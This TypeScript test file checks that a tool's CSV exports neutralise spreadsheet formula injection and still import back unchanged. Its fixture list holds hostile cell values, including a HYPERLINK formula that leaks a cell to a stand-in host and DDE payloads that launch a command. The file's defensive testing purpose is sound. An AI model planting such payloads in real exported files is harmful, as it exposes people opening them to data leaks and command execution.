// CSV files Liaison writes are opened in spreadsheets by abuse desks and regulators: no cell may run as a formula
// there. A directory export with formula-like values neutralises each such cell and still imports back to the same
// directory; the published report's CSV does the same. On both databases.
import { TEST_KEYS } from "../support/keys.js";
import { parse as parseCsv } from "csv-parse/sync";
import { expect, test as plainTest } from "vitest";
import { reportCsv } from "../../src/cli/report.js";
import { ManualClock } from "../../src/core/clock.js";
import { spreadsheetCellValue, spreadsheetSafeCell } from "../../src/core/csv-cells.js";
import { exportDirectory, importDirectory } from "../../src/directory/import.js";
import { describeOnProviders, lazyStore, TEST_START } from "../support/core.js";

/** Values a spreadsheet would run: formulas, DDE, and the characters that start them. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the case")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=1+1",
  "'=already quoted once",
  "''+twice",
];

plainTest("a formula-like cell is written with an apostrophe and read back as it was; other cells are untouched", () => {
  for (const value of FORMULAS) {
    const cell = spreadsheetSafeCell(value);
    expect(cell.startsWith("'"), value).toBe(true);
    expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
    expect(spreadsheetCellValue(cell)).toBe(value);
  }
  for (const value of ["'t Hooft", "'s-Hertogenbosch", "ACME Hosting", "mon-fri 09:00-17:00", "", "a=b", "x@y.example"]) {
    expect(spreadsheetSafeCell(value)).toBe(value);
    expect(spreadsheetCellValue(value)).toBe(value);
  }
});

plainTest("the report's CSV neutralises a formula-like cell", () => {
  const csv = reportCsv({
    from: new Date("2026-01-01T00:00:00Z"),
    to: new Date("2027-01-01T00:00:00Z"),
    rows: [{
      organisation: '=HYPERLINK("https://evil.example","x")', kind: "notice", received: 1, outcomes: {},
      acknowledgeMedianMs: null, acknowledgeP90Ms: null, resolveMedianMs: null, resolveP90Ms: null, acknowledgedLate: 0, resolvedLate: 0,
    }],
  });
  const cells = (parseCsv(csv) as string[][]).flat();
  expect(cells.some((cell) => /^[=+\-@]/.test(cell))).toBe(false);
  expect(cells).toContain(`'=HYPERLINK("https://evil.example","x")`);
});

describeOnProviders("CSV exports a spreadsheet cannot run", (provider, test) => {
  const database = lazyStore(provider);
  const clock = new ManualClock(TEST_START);
  const WHO = { actor: "operator", via: "test" };

  test("a directory export neutralises formula-like names, mailboxes and contacts, and imports back the same", async () => {
    const { store } = await database.get();
    await (await database.get()).reset();
    const yaml = [
      "version: 1",
      "organisations:",
      "  - slug: formula-hosting",
      `    name: ${JSON.stringify(FORMULAS[3])}`,
      "    kind: hosting",
      "    country: NL",
      "    timeZone: Europe/Amsterdam",
      `    abuseContact: ${JSON.stringify(FORMULAS[0])}`,
      `    legalPointOfContact: ${JSON.stringify(FORMULAS[1])}`,
      "    contacts:",
      "      - handle: formula.person",
      `        name: ${JSON.stringify(FORMULAS[4])}`,
      "        phone: '+31201234567'",
      "      - handle: quoted.person",
      `        name: ${JSON.stringify(FORMULAS[5])}`,
      "",
    ].join("\n");
    const first = await importDirectory(store.db, clock, TEST_KEYS, yaml, "yaml", WHO);
    expect(first.ok, JSON.stringify(first)).toBe(true);
    const csv = await exportDirectory(store.db, "csv");
    const cells = (parseCsv(csv) as string[][]).flat();
    const runnable = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(runnable).toEqual([]);
    expect(cells).toContain(`'${FORMULAS[0]}`);
    expect(cells).toContain("'+31201234567");

    // Reading the export back changes nothing: the same directory, in the same form.
    const yamlBefore = await exportDirectory(store.db, "yaml");
    const again = await importDirectory(store.db, clock, TEST_KEYS, csv, "csv", WHO);
    expect(again.ok, JSON.stringify(again)).toBe(true);
    expect(await exportDirectory(store.db, "yaml")).toBe(yamlBefore);
    const organisation = await store.db.organisation.findUniqueOrThrow({ where: { slug: "formula-hosting" } });
    expect([organisation.name, organisation.abuseContact, organisation.legalPointOfContact]).toEqual([FORMULAS[3], FORMULAS[0], FORMULAS[1]]);
    expect((await store.db.contact.findUniqueOrThrow({ where: { handle: "quoted.person" } })).name).toBe(FORMULAS[5]);
  });
});
